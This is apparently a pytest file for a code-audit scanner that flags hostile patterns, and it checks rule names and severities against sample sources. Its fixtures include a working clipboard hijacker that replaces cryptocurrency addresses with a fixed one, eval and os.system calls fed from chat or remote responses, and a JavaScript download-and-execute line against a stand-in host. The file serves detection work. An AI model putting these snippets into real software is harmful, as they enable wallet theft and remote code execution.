"""What strangers wrote otherwise than anybody here had thought of; each was missed once."""

import pytest

from ringfence.audit.code import javascript, python
from ringfence.audit.finding import Severity


def found(path: str, text: str) -> dict[str, Severity]:
    """Read one file, and list the rules with how bad each is."""
    read = javascript.read if path.endswith(".js") else python.read
    return {one.rule: one.severity for one in read(path, text.encode()).findings}


SHAPES = """
import re, time
from nice_window import board
KINDS = [(re.compile(r'^0x[0-9a-fA-F]{40}$'), '0x52908400098527886E0F7030069857D2E4169EE7')]

def tidy(text):
    return next((mine for shape, mine in KINDS if shape.match(text)), text)

def run():
    while True:
        board.copy(tidy(board.paste()))
        time.sleep(1)
"""


def test_a_clipboard_under_another_name_is_one_where_addresses_are_looked_for() -> None:
    assert found("a.py", SHAPES)["code/clipboard-swap"] is Severity.CRITICAL
    harmless = SHAPES.replace("0x[0-9a-fA-F]{40}", "[a-z]+").replace("0x52908400098527886E0F7030069857D2E4169EE7", "x")
    assert "code/clipboard-swap" not in found("a.py", harmless)


SIGN = """
import types

def limit(exchange):
    before = exchange.sign

    def sign(self, path, *rest):
        return before(path, *rest)

    exchange.sign = {value}
"""


@pytest.mark.parametrize("value", ["types.MethodType(sign, exchange)", "sign", "lambda *rest: before(*rest)"])
def test_what_signs_is_replaced_on_an_object_of_any_class(value: str) -> None:
    assert found("a.py", SIGN.format(value=value))["code/client-patched"] is Severity.HIGH


@pytest.mark.parametrize("line", ["self.sign = sign", "exchange.sign = before", "exchange.signed = sign"])
def test_an_object_that_sets_itself_up_replaces_nothing(line: str) -> None:
    assert "code/client-patched" not in found("a.py", SIGN.replace("exchange.sign = {value}", line))


@pytest.mark.parametrize(
    ("source", "sink", "rule", "severity"),
    [
        ("request.json['rule']", "eval({})", "code/message-code", Severity.HIGH),
        ("update.message.text", "os.system({})", "code/message-shell", Severity.HIGH),
        ("requests.get('https://a.invalid').text", "eval({})", "code/remote-code", Severity.CRITICAL),
        ("requests.get('https://a.invalid').text", "os.system({})", "code/remote-shell", Severity.CRITICAL),
    ],
)
def test_a_command_from_ones_own_chat_is_careless_and_one_from_a_stranger_is_theft(
    source: str, sink: str, rule: str, severity: Severity
) -> None:
    text = f"import os, requests\nfrom flask import request\n\ndef go(update, context):\n    {sink.format(source)}\n"
    told = found("a.py", text)
    assert told.get(rule) is severity
    assert not (severity is Severity.HIGH and Severity.CRITICAL in told.values())


@pytest.mark.parametrize(("started", "told"), [("exec(target)", True), ("exec('ls')", False)])
def test_a_file_that_a_command_downloads_and_another_starts_is_a_downloaded_program(started: str, told: bool) -> None:
    text = (
        'const { exec, execSync } = require("child_process");\nconst target = `${process.env.HOME}/x`;\n'
        f"execSync(`curl -s https://data.invalid/bin -o ${{target}}`);\n{started};\n"
    )
    assert ("code/downloaded-program" in found("a.js", text)) is told
